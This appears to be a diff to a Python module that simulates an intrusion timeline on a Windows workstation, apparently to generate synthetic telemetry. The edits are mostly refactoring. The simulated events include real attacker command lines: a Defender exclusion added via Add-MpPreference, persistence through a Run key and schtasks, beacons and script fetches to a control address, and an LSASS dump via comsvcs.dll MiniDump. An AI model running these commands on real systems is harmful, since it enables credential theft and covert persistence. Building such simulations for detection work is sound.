@@ -16,6 +16,7 @@ __all__ = ["AGENT", "break_in"]
 
 AGENT = "Mozilla/5.0 (Windows NT; Windows NT 10.0; vi-VN) WindowsPowerShell/5.1.19041.4522"
 _HOME = "C:\\Users\\mai.tt"
+_MAIL_CACHE = _HOME + "\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook"
 _PROFILE = _HOME + "\\AppData\\Roaming\\capnhat.js"
 _HIVE = f"HKU\\{CLERK.sid}"
 
@@ -34,10 +35,7 @@ def break_in(stage: Stage) -> Process:
 def _document(stage: Stage) -> Process:
     """08:41. The attachment is opened; its macro drops a script and starts it."""
     pc = stage.pc
-    document = (
-        _HOME
-        + "\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\8K2QXN1D\\Giấy mời họp UBND tỉnh.docm"
-    )
+    document = rf"{_MAIL_CACHE}\8K2QXN1D\Giấy mời họp UBND tỉnh.docm"
     pc.writes(at(41.10), stage.outlook, document)
     office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
     word = pc.start(
@@ -68,9 +66,16 @@ def _first_code(stage: Stage, shell: Process) -> None:
     """08:42. The script is fetched from a bare address and switches its own logging off."""
     port = stage.pc.connects(at(41.96), shell, CONTROL_ADDRESS, 80)
     stage.net.fetches(
-        at(41.96), WORKSTATION.address, CONTROL_ADDRESS, CONTROL_ADDRESS, "/t/capnhat.ps1", AGENT,
-        received=18_422, mime="text/plain", source_port=port,
-    )  # fmt: skip
+        at(41.96),
+        WORKSTATION.address,
+        CONTROL_ADDRESS,
+        CONTROL_ADDRESS,
+        "/t/capnhat.ps1",
+        AGENT,
+        received=18_422,
+        mime="text/plain",
+        source_port=port,
+    )
     stage.pc.script(
         at(42.02),
         shell,
@@ -86,10 +91,17 @@ def _callbacks(stage: Stage) -> None:
     minute = 43.0
     while minute < 175:
         stage.net.fetches(
-            at(minute), WORKSTATION.address, CONTROL_ADDRESS, CONTROL_NAME, "/dongbo/v2", AGENT,
-            method="POST", sent=stage.chance.whole(180, 420), received=stage.chance.whole(60, 900),
+            at(minute),
+            WORKSTATION.address,
+            CONTROL_ADDRESS,
+            CONTROL_NAME,
+            "/dongbo/v2",
+            AGENT,
+            method="POST",
+            sent=stage.chance.whole(180, 420),
+            received=stage.chance.whole(60, 900),
             mime="application/octet-stream",
-        )  # fmt: skip
+        )
         minute += stage.chance.between(1.25, 1.75)
 
 
@@ -98,9 +110,11 @@ def _persistence(stage: Stage, shell: Process) -> None:
     run = _HIVE + "\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\CapNhatVanBan"
     stage.pc.sets(at(52.4), shell, run, f'wscript.exe //B "{_PROFILE}"')
     task = stage.pc.start(
-        at(53.1), shell, SYSTEM32 + "schtasks.exe",
-        f'"{SYSTEM32}schtasks.exe" /create /tn "Cap nhat van ban" /sc onlogon /f /tr "wscript.exe //B {_PROFILE}"',
-    )  # fmt: skip
+        at(53.1),
+        shell,
+        SYSTEM32 + "schtasks.exe",
+        f'schtasks.exe /create /tn "Cap nhat van ban" /sc onlogon /f /tr "wscript.exe //B {_PROFILE}"',
+    )
     stage.pc.ends(at(53.12), task)
 
 
@@ -131,12 +145,15 @@ def _credentials(stage: Stage, shell: Process) -> None:
     exempt = f'"{POWERSHELL}" -NoP -C Add-MpPreference -ExclusionPath C:\\ProgramData\\Temp'
     helper = pc.start(at(77.3), shell, POWERSHELL, exempt)
     pc.sets(
-        at(77.34), stage.pc_defender,
-        "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ProgramData\\Temp", "DWORD (0x00000000)",
-    )  # fmt: skip
+        at(77.34),
+        stage.pc_defender,
+        "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ProgramData\\Temp",
+        "DWORD (0x00000000)",
+    )
     pc.ends(at(77.36), helper)
     target = f"C:\\ProgramData\\Temp\\lsass-{stage.pc_lsass.number}.dmp"
-    command = f'"{SYSTEM32}rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump {stage.pc_lsass.number} {target} full'
+    call = f"C:\\Windows\\System32\\comsvcs.dll, MiniDump {stage.pc_lsass.number} {target} full"
+    command = f'"{SYSTEM32}rundll32.exe" {call}'
     dumper = pc.start(at(81.05), shell, SYSTEM32 + "rundll32.exe", command)
     pc.loads(at(81.06), dumper, SYSTEM32 + "comsvcs.dll")
     pc.loads(at(81.07), dumper, SYSTEM32 + "dbgcore.dll")
